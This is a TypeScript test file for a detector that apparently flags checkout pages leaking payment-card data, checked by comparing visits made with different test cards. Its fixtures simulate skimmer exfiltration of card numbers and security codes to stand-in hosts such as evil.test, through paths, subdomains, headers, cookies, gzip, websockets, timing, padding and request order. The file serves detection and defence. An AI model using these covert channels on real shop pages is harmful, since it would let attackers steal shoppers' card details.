import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { judgeCheck } from '../src/index.ts';
import { approval, CARDS, connection, free, message, pinned, post, SHOP, store } from './make.ts';

import { EVIL, STATS, type Page, baseline, judged, sealed, random, later } from './differ-pages.ts';

describe('depends-on-card: what depends', () => {
  test('a ciphertext that follows the card is in doubt after one pair and proved after two', () => {
    const page: Page = (card, kept) => [
      post(kept, `${EVIL}/c`, JSON.stringify({ v: 1, d: sealed(card.number) })),
    ];
    expect(judged(page, { rounds: 1 })).toMatchObject({ doubt: true, found: [{ grade: 'unobserved' }] });
    const { found, doubt, judgement } = judged(page);
    expect(doubt).toBe(false);
    expect(judgement.verdict.kind).toBe('tampered');
    expect(found).toMatchObject([
      {
        grade: 'tampered',
        severity: 'critical',
        confidence: 'certain',
        key: `depends-on-card:POST ${EVIL}/c`,
        difference: { kind: 'value', message: `POST ${EVIL}/c`, part: 'body /d' },
      },
    ]);
    const { a, b } = found[0]?.difference ?? { a: null, b: null };
    expect(a?.pointer).toBe('/artifacts/wire/value/0');
    expect(a?.text).toBe(sealed(CARDS.a.number));
    expect(b?.text).toBe(sealed(CARDS.b.number));
    expect(a?.recording).not.toBe(b?.recording);
  });

  test.each<readonly [string, Page, string]>([
    ['path', (card) => [message(`${EVIL}/p/${sealed(card.number, 'hex')}.gif`)], 'path'],
    ['host', (card) => [message(`https://${sealed(card.number, 'hex')}.evil.test/`)], 'host'],
    [
      'query',
      (card) => [message(`${EVIL}/i.gif?v=2&u=${encodeURIComponent(sealed(card.number))}`)],
      'query u',
    ],
    [
      'header',
      (card) => [message(`${EVIL}/x`, { headers: [['X-Trace', sealed(card.number)]] })],
      'header x-trace',
    ],
    [
      'cookie',
      (card) => [message(`${EVIL}/x`, { headers: [['Cookie', `a=1; s=${sealed(card.number)}`]] })],
      'cookie s',
    ],
    [
      'referrer',
      (card) => [message(`${EVIL}/x`, { headers: [['Referer', `${SHOP}/?${sealed(card.number)}`]] })],
      'header referer',
    ],
    [
      'form',
      (card, kept) => [post(kept, `${EVIL}/c`, `a=1&d=${encodeURIComponent(sealed(card.number))}`)],
      'body d',
    ],
    [
      'multipart with a boundary of its own every time',
      (card, kept, visit) => [
        post(
          kept,
          `${EVIL}/c`,
          `--b${visit}\r\nContent-Disposition: form-data; name="d"\r\n\r\n${sealed(card.number)}\r\n--b${visit}--\r\n`,
          { headers: [['Content-Type', `multipart/form-data; boundary=b${visit}`]] },
        ),
      ],
      'body d',
    ],
    [
      'JSON in base64 in JSON',
      (card, kept) => [
        post(
          kept,
          `${EVIL}/c`,
          JSON.stringify({ p: btoa(JSON.stringify({ e: [{ t: 1 }, { x: sealed(card.number) }] })) }),
        ),
      ],
      'body /p (base64)/e/1/x',
    ],
    [
      'gzip',
      (card, kept) => [post(kept, `${EVIL}/c`, gzipSync(JSON.stringify({ x: sealed(card.number) })))],
      'body (gzip)/x',
    ],
    ['binary', (card, kept) => [post(kept, `${EVIL}/c`, Buffer.from(sealed(card.number), 'base64'))], 'body'],
    [
      'web socket',
      (card, kept) => [
        post(kept, 'wss://evil.test/s', sealed(card.number), { channel: 'websocket', resource: 'websocket' }),
      ],
      'frame',
    ],
    ["the shop's own relay", (card, kept) => [post(kept, `${SHOP}/api/log`, sealed(card.number))], 'body'],
    [
      'the name of a field',
      (card, kept) => [post(kept, `${EVIL}/c`, JSON.stringify({ [sealed(card.number)]: 1 }))],
      'body',
    ],
  ])('%s: tampered, certain', (_, page, part) => {
    const { found, doubt } = judged(page, { rounds: 3 });
    expect(found[0]).toMatchObject({ grade: 'tampered', confidence: 'certain' });
    expect(found[0]?.difference?.part.startsWith(part)).toBe(true);
    expect(doubt).toBe(false);
  });

  test('one digit a message: three pairs, since one digit may be chance', () => {
    const page: Page = (card) =>
      Array.from(card.number, (d, i) =>
        message(`${EVIL}/k.gif?k=${(Number(d) * 7 + i) % 10}`, { at: later(i * 10) }),
      );
    expect(judged(page).doubt).toBe(true);
    expect(judged(page, { rounds: 3 })).toMatchObject({ doubt: false, found: [{ grade: 'tampered' }] });
  });

  test('as many requests as a digit says', () => {
    const page: Page = (card) =>
      Array.from(card.number).flatMap((d, i) =>
        Array.from({ length: Number(d) }, () => message(`${EVIL}/p${String.fromCharCode(97 + i)}.gif`)),
      );
    expect(judged(page, { rounds: 3 }).found).toMatchObject(
      expect.arrayContaining([expect.objectContaining({ grade: 'tampered' })]),
    );
  });

  test('padding as long as a digit says, over noise', () => {
    const page: Page = (card, kept, visit) =>
      Array.from(card.number, (d, i) =>
        post(
          kept,
          `${EVIL}/p${String.fromCharCode(97 + i)}`,
          random(`${visit} ${i}`).slice(0, 20 + Number(d)),
        ),
      );
    expect(judged(page, { rounds: 3 }).found[0]).toMatchObject({
      grade: 'tampered',
      difference: { kind: 'length' },
    });
  });

  test('pings whose moments follow the digits', () => {
    const page: Page = (card) => {
      let at = 0;
      return Array.from(card.number, (d) => {
        at += 1500 * (1 + Number(d));
        return message(`${EVIL}/ping`, { at: later(at) });
      });
    };
    const { found } = judged(page, { rounds: 3 });
    expect(found[0]).toMatchObject({ grade: 'tampered', difference: { kind: 'timing' } });
  });

  test('images asked for in the order of the digits', () => {
    const page: Page = (card) => {
      const order = Array.from('abcdefghij').toSorted((x, y) =>
        createHash('md5')
          .update(x + card.number)
          .digest('hex') <
        createHash('md5')
          .update(y + card.number)
          .digest('hex')
          ? -1
          : 1,
      );
      return order.map((name, i) => message(`${EVIL}/${name}.png`, { at: later(i) }));
    };
    expect(judged(page, { rounds: 3 }).found[0]).toMatchObject({
      grade: 'tampered',
      difference: { kind: 'order' },
    });
  });

  test('a ciphertext in batches that are cut another way each time', () => {
    const page: Page = (card, kept, visit) => {
      const events = Array.from({ length: 3 + (visit % 3) }, (_, i) => ({ e: 'scroll', y: i * visit }));
      events.splice(visit % 3, 0, { e: sealed(`${card.number}${card.code}`), y: 0 });
      return [
        ...Array.from({ length: visit % 2 }, () =>
          post(kept, `${STATS}/collect`, JSON.stringify([{ e: 'idle' }])),
        ),
        post(kept, `${STATS}/collect`, JSON.stringify(events)),
      ];
    };
    expect(judged(page).found[0]).toMatchObject({ grade: 'tampered', confidence: 'certain' });
  });

  test('the security code alone needs no second pair', () => {
    const page: Page = (card) => [message(`${EVIL}/i.gif?c=${card.code}`)];
    expect(judged(page, { rounds: 1 })).toMatchObject({
      doubt: false,
      found: [
        { grade: 'tampered', confidence: 'certain', title: { en: expect.stringContaining('security code') } },
      ],
    });
  });

  test('bytes through a connection no message explains', () => {
    const kept = store();
    const visits = [1, 2, 3].flatMap((round) =>
      (['a', 'b'] as const).map((who) =>
        pinned(who, round, {
          connections: [connection(`${sealed(CARDS[who].number, 'hex')}.evil.test`)],
        }),
      ),
    );
    const { findings } = judgeCheck({
      recordings: [free('low'), free('high'), ...visits],
      baseline,
      bodies: kept.bodies,
    });
    expect(findings.find(({ detector }) => detector === 'depends-on-card')).toMatchObject({
      grade: 'tampered',
      difference: { part: 'host 2' },
    });
  });
});

describe('depends-on-card: how much', () => {
  const masked: Page = (card, kept) => [
    post(
      kept,
      `${STATS}/form`,
      JSON.stringify({ f: 'card', v: `${card.number.slice(0, 6)}******${card.number.slice(-4)}` }),
    ),
  ];
  test('a masked number is told for what it is: no tampering, and no second pair', () => {
    const { found, doubt, judgement } = judged(masked, { rounds: 1 });
    expect(doubt).toBe(false);
    expect(judgement.verdict.kind).toBe('changed');
    expect(found).toMatchObject([
      { grade: 'changed', severity: 'high', title: { en: expect.stringContaining('last four') } },
    ]);
  });
  test('and quiet where the baseline lets the destination learn it, not where it may learn less', () => {
    const may = (reveals: 'first-six' | 'last-four') =>
      approval({
        destinations: [
          ...approval().baseline.destinations,
          { origin: STATS, cards: [], reveals, owner: null, justification: null },
        ],
      });
    expect(judged(masked, { approved: may('last-four') })).toMatchObject({ found: [], doubt: false });
    expect(judged(masked, { approved: may('first-six') }).found).toHaveLength(1);
  });
  test('last four without a zero in front, as a number', () => {
    const page: Page = (card) => [message(`${STATS}/e?l=${Number(card.number.slice(-4))}`)];
    expect(judged(page, { rounds: 1 }).found).toMatchObject([{ grade: 'changed' }]);
  });
  test('eight of the first digits are more than a brand', () => {
    const page: Page = (card, kept) => [
      post(kept, `${STATS}/form`, JSON.stringify({ v: `${card.number.slice(0, 12)}****` })),
    ];
    expect(judged(page, { rounds: 3 }).found[0]).toMatchObject({ grade: 'tampered' });
  });
  test('a yes or no is little, and said so', () => {
    const page: Page = (_card, kept, _visit, who) => [
      post(kept, `${STATS}/form`, JSON.stringify({ valid: who === 'a' })),
    ];
    expect(judged(page).doubt).toBe(true);
    expect(judged(page, { rounds: 3 })).toMatchObject({
      doubt: false,
      found: [{ grade: 'changed', severity: 'low' }],
    });
  });
  test('the first six digits to a stranger: seen because free visits have other cards', () => {
    const page: Page = (card) => [message(`${STATS}/bin?b=${card.number.slice(0, 6)}`)];
    expect(judged(page).found).toMatchObject([
      { grade: 'changed', severity: 'medium', key: `depends-on-card:first-six:GET ${STATS}/bin` },
    ]);
  });
  test("the holder's name to the shop itself is for a person to look at", () => {
    const page: Page = (card, kept) => [post(kept, `${SHOP}/address`, JSON.stringify({ name: card.holder }))];
    expect(judged(page, { rounds: 1 }).found).toMatchObject([{ grade: 'changed', severity: 'high' }]);
  });
});
